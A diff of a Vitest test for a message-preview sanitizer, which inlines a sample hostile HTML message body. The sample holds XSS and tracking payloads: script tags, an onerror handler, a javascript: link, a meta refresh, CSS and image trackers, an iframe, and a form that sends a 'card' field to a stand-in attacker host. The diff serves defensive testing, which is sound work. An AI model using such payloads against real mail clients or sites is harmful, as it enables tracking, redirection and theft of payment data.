@@ -1,7 +1,16 @@
 // @vitest-environment jsdom
 import { describe, expect, it } from 'vitest'
 import { messageDocument } from '../../../src/renderer/src/components/notifications/message-document'
-import { HOSTILE_BODY } from '../../../src/sandbox/data/messages'
+
+/** Every trick the Demo shop's hostile message plays, in one body. */
+const HOSTILE_BODY = `<meta http-equiv="refresh" content="0;url=https://evil.example/r">
+<style>@import url(https://tracker.example/a.css); body { background: url(https://tracker.example/bg.png) }</style>
+<script>window.__pwned = 1</script><h1>Track your order</h1>
+<p style="background:url('https://tracker.example/p.png')">Hi</p>
+<img src="https://tracker.example/open.gif"><img src="x" onerror="window.__pwned = 2">
+<a href="javascript:window.__pwned=3">Bonus</a> <a href="https://demo.example.com/orders/track">Track</a>
+<form action="https://evil.example/c"><input name="card"><button>Go</button></form>
+<iframe src="https://evil.example/f"></iframe><svg><image href="https://tracker.example/s.png"/></svg>`
 
 describe('a message body as a preview document', () => {
   it('keeps none of the hostile markup that runs, fetches, submits or navigates', () => {
